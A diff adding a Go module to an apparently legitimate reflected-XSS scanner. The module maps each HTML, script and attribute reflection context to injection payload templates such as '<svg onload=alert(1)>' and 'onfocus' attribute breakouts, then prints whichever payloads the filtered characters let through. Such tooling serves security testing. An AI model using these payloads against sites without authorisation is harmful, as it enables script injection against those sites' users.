@@ -0,0 +1,110 @@
+package scanner
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+)
+
+// Suggestion is a concrete payload that the observed character handling
+// should let through in the context the canary was reflected in.
+type Suggestion struct {
+	Context string `json:"context"`
+	Payload string `json:"payload"`
+}
+
+// suggestionTemplates are the payloads tried for each reflection context,
+// most direct first. {call} stands for the JavaScript call expression the
+// allowed characters permit.
+var suggestionTemplates = map[string][]string{
+	ctxHTML:           {"<svg onload={call}>", "<img src=x onerror={call}>"},
+	ctxComment:        {"--><svg onload={call}>"},
+	ctxRCDATA:         {"</title></textarea><svg onload={call}>"},
+	ctxStyle:          {"</style><svg onload={call}>"},
+	ctxScript:         {";{call};//", "</script><svg onload={call}>"},
+	ctxScriptDouble:   {"\"-{call}-\"", "\";{call};//", "</script><svg onload={call}>"},
+	ctxScriptSingle:   {"'-{call}-'", "';{call};//", "</script><svg onload={call}>"},
+	ctxScriptTemplate: {"${{call}}", "</script><svg onload={call}>"},
+	ctxAttrDouble:     {"\" autofocus onfocus={call} x=\"", "\"><svg onload={call}>"},
+	ctxAttrSingle:     {"' autofocus onfocus={call} x='", "'><svg onload={call}>"},
+	ctxAttrUnquoted:   {"x autofocus onfocus={call}", "x><svg onload={call}>"},
+	ctxAttrURL:        {"javascript:{call}"},
+	ctxTag:            {" autofocus onfocus={call} ", "><svg onload={call}>"},
+}
+
+// reflectionContexts returns the distinct contexts canary is reflected in
+// within body, in document order.
+func (s *Scanner) reflectionContexts(body, canary string) []string {
+	var contexts []string
+	for _, span := range s.matcher.Match(body, canary) {
+		ctx := reflectionContext(body, span[0])
+		if !slices.Contains(contexts, ctx) {
+			contexts = append(contexts, ctx)
+		}
+	}
+	return contexts
+}
+
+// suggestPayloads turns the reflection contexts and the character probe
+// results into concrete payloads. A payload is suggested only if every
+// special character it uses was allowed; characters that were not probed,
+// such as spaces, are assumed to pass.
+func (s *Scanner) suggestPayloads(contexts []string, allowed []string) []Suggestion {
+	passes := func(c string) bool {
+		return slices.Contains(allowed, c) || !slices.Contains(s.chars, c)
+	}
+	call := ""
+	switch {
+	case passes("(") && passes(")"):
+		call = "alert(1)"
+	case passes("`"):
+		call = "alert`1`"
+	default:
+		return nil
+	}
+
+	var suggestions []Suggestion
+	for _, ctx := range contexts {
+		for _, tmpl := range suggestionTemplates[ctx] {
+			payload := strings.ReplaceAll(tmpl, "{call}", call)
+			usable := true
+			for _, r := range strings.ReplaceAll(tmpl, "{call}", "") {
+				if !passes(string(r)) {
+					usable = false
+					break
+				}
+			}
+			if usable {
+				suggestions = append(suggestions, Suggestion{Context: ctx, Payload: payload})
+			}
+		}
+	}
+	return suggestions
+}
+
+// printContexts prints the reflection contexts, if any.
+func (s *Scanner) printContexts(contexts []string) {
+	if s.opts.JSONOutput || len(contexts) == 0 {
+		return
+	}
+	if s.opts.NoColor {
+		fmt.Printf("CONTEXT: %v\n", contexts)
+	} else {
+		fmt.Printf("\033[36mCONTEXT: %v\033[0m\n", contexts)
+	}
+}
+
+// printSuggestions prints the suggested payloads, if any.
+func (s *Scanner) printSuggestions(suggestions []Suggestion) {
+	if s.opts.JSONOutput {
+		return
+	}
+	for _, sg := range suggestions {
+		line := fmt.Sprintf("SUGGESTED PAYLOAD [%s]: %s", sg.Context, sg.Payload)
+		if s.opts.NoColor {
+			fmt.Println(line)
+		} else {
+			fmt.Printf("\033[92m%s\033[0m\n", line)
+		}
+	}
+}